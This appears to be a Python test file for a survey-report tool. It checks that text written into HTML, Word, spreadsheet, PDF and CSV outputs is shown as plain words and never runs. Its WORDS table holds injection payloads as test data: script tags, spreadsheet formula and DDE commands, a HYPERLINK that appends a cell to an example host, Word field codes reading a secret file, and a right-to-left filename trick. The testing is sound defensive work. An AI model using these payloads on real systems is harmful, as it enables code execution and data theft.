"""Labels and comments that try to be something else than words, in every format: readers see the words."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn

from mtle_survey.codebook import codebook_bytes
from mtle_survey.instrument.model import Instrument
from mtle_survey.report.build import build_document, writers
from mtle_survey.report.document import Document
from mtle_survey.study import Question, Study
from tests.outside import needs_pdftotext, text_of_pdf
from tests.unit.report.studies import instrument, two_waves

WORDS = {
    "html": "<b>bold</b> <script>document.title='x'</script> <img src=x onerror=\"document.title='x'\">",
    "closing tags": "</title></style></script></td></table></svg>]]> --> &amp; &#60;",
    "attribute": '" onmouseover="x()" style="position:fixed" x=\'y\'',
    "formula": '=HYPERLINK("https://x.example/?"&A1,"open")',
    "command": "+cmd|' /C calc'!A0",
    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "field code": '{ INCLUDETEXT "c:\\\\secret.txt" } { HYPERLINK "https://x.example" } TOC \\\\o "1-9"',
    "word markup": "<w:instrText>DDEAUTO c:\\\\x.exe</w:instrText><w:p/></w:t></w:r>",
    "typst": '#read("/etc/hostname") #set page(fill: red) $x^2$ ]] *bold* _thin_ `code` @table-change <x>',
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} %(x)s {0}",
    "emoji": "Colleagues 👩🏽‍🏫 ask me 🎉",
    "right to left": "يسألني زملائي عن رأيي",
    "another script": "同事会征求我的意见",
}

TURNS = (0, 6)
# The tables of a codebook hold neither the title of the study nor those of scales.
NOT_IN_A_CODEBOOK = {turn: [*WORDS, *WORDS][turn + 11 : turn + 13] for turn in TURNS}


def hostile(words: list[str]) -> Instrument:
    """An instrument in which everything that people write is hostile: items, scales, fields, options."""
    base = instrument()
    place = iter(words)
    items = tuple(i.model_copy(update={"text": next(place), "source": words[0]}) for i in base.items)
    scales = tuple(s.model_copy(update={"title": next(place)}) for s in base.scales)
    labels = {"labels": (words[1], words[2])}
    return base.model_copy(
        update={
            "title": words[3],
            "notice": " ".join(words),
            "citation": words[4],
            "items": items,
            "scales": scales,
            "fields": tuple(
                f.model_copy(update={"title": words[5], **(labels if f.labels else {})}) for f in base.fields
            ),
            "response_formats": {
                "agree5": base.response_formats["agree5"].model_copy(update={"labels": tuple(words[6:11])})
            },
        }
    )


@cache
def written(turn: int, suffix: str) -> bytes:
    """A study with every kind of hostile words; at the next turn they stand in other places."""
    words = [*WORDS.values()]
    words = words[turn:] + words[:turn]
    study = two_waves(
        12,
        2,
        model=hostile(words),
        title=words[-1],
        dates={"pre": words[0]},
        accept={"D104": words[1]},
        groups=("arm",),
        cluster="site",
        questions=(Question(ask=words[2], measures=("lead",)),),
    )
    if suffix.startswith("codebook-"):
        return codebook_bytes(study.instrument, suffix.removeprefix("codebook-"))
    return writers()[suffix].write(_document(turn, study, words[3]))


_DOCUMENTS: dict[int, Document] = {}


def _document(turn: int, study: Study, date: str) -> Document:
    if turn not in _DOCUMENTS:
        _DOCUMENTS[turn] = build_document(study, date=date)
    return _DOCUMENTS[turn]


def squeezed(words: str) -> str:
    """Without the white space that lines and cells add."""
    return re.sub(r"\s+", "", words)


def missing(shown: str, but: Sequence[str] = ()) -> list[str]:
    """Which kinds of words cannot be read."""
    return [k for k, words in WORDS.items() if k not in but and squeezed(words) not in squeezed(shown)]


class Reader(HTMLParser):
    """What a browser would show, and what it would do."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.shown: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.scripts: list[str] = []
        self._inside: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        if tag in {"script", "style"}:
            self._inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._inside and self._inside[-1] == tag:
            self._inside.pop()

    def handle_data(self, data: str) -> None:
        if not self._inside:
            self.shown.append(data)
        elif self._inside[-1] == "script":
            self.scripts.append(data)


@cache
def tame(suffix: str) -> Reader:
    """The same page about a study without hostile words: what elements and attributes it has."""
    study = two_waves(12, 2, groups=("arm",), cluster="site")
    if suffix.startswith("codebook-"):
        return Reader(codebook_bytes(study.instrument, "html").decode())
    return Reader(writers()["html"].write(build_document(study)).decode())


@pytest.mark.parametrize("turn", TURNS)
@pytest.mark.parametrize("suffix", ["html", "codebook-html"])
def test_a_browser_shows_the_words_and_nothing_else_comes_of_them(turn: int, suffix: str) -> None:
    page = Reader(written(turn, suffix).decode())
    usual = tame(suffix)
    assert missing("".join(page.shown)) == []
    assert page.scripts == usual.scripts
    assert not any(name.startswith("on") for name in page.attributes)
    assert page.tags - usual.tags <= {"ol", "ul", "li", "h3", "strong", "b", "dl", "dt", "dd"}
    assert "script" not in page.tags - usual.tags and "img" not in page.tags


@pytest.mark.parametrize("turn", TURNS)
@pytest.mark.parametrize("suffix", ["docx", "codebook-docx"])
def test_word_shows_the_words_and_no_field_is_made_of_them(turn: int, suffix: str) -> None:
    word = docx.Document(io.BytesIO(written(turn, suffix)))
    shown = "".join(t.text or "" for t in word.element.body.iter(qn("w:t")))
    assert missing(shown) == []
    fields = [f.get(qn("w:instr")) for f in word.element.body.iter(qn("w:fldSimple"))]
    assert all(re.fullmatch(r"(SEQ (Table|Figure) \\\* ARABIC|(PAGE)?REF m\d+_\w* \\h)", f) for f in fields)
    assert not list(word.element.body.iter(qn("w:instrText")))
    outside = [r.target_ref for r in word.part.rels.values() if r.is_external]
    assert outside == []


@pytest.mark.parametrize("turn", TURNS)
@pytest.mark.parametrize("suffix", ["xlsx", "codebook-xlsx"])
def test_a_spreadsheet_shows_the_words_and_works_nothing_out(turn: int, suffix: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(written(turn, suffix)))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    elsewhere = NOT_IN_A_CODEBOOK[turn] if suffix == "codebook-xlsx" else ()
    assert missing(" ".join(str(cell.value) for cell in cells), but=elsewhere) == []
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}
    begins = [c for c in cells if isinstance(c.value, str) and c.value[:1] in tuple("=+-@")]
    assert all(cell.quotePrefix for cell in begins)
    links = [c.hyperlink for c in cells if c.hyperlink]
    assert all(link.target is None for link in links), "links lead to sheets alone"


@needs_pdftotext
@pytest.mark.parametrize("turn", TURNS)
@pytest.mark.parametrize("suffix", ["pdf", "codebook-pdf"])
def test_the_pages_show_the_words(turn: int, suffix: str, tmp_path: Path) -> None:
    file = tmp_path / "report.pdf"
    file.write_bytes(written(turn, suffix))
    shown = text_of_pdf(file)
    joined = ("emoji", "right to left", "another script")  # not all of them is text in a PDF
    assert missing(shown, but=joined) == []


@pytest.mark.parametrize("turn", TURNS)
def test_a_data_dictionary_keeps_the_words_in_one_cell(turn: int) -> None:
    rows = list(csv.reader(io.StringIO(written(turn, "codebook-csv").decode("utf-8-sig"))))
    assert len({len(row) for row in rows}) == 1
    shown = " ".join(cell for row in rows for cell in row)
    assert missing(shown, but=NOT_IN_A_CODEBOOK[turn]) == []


@pytest.mark.parametrize("suffix", ["html", "docx", "xlsx", "pdf"])
def test_marks_that_turn_the_direction_of_what_follows_are_shown_as_marks(suffix: str) -> None:
    turned = two_waves(12, 2, title="safe \u202egnp.exe and \x07 on")
    content = writers()[suffix].write(build_document(turned))
    if suffix == "html":
        assert "\u202e" not in content.decode() and "\x07" not in content.decode()
        assert "safe \ufffdgnp.exe and \ufffd on" in content.decode()
    if suffix == "docx":
        assert docx.Document(io.BytesIO(content)).paragraphs[0].text == "safe \ufffdgnp.exe and \ufffd on"
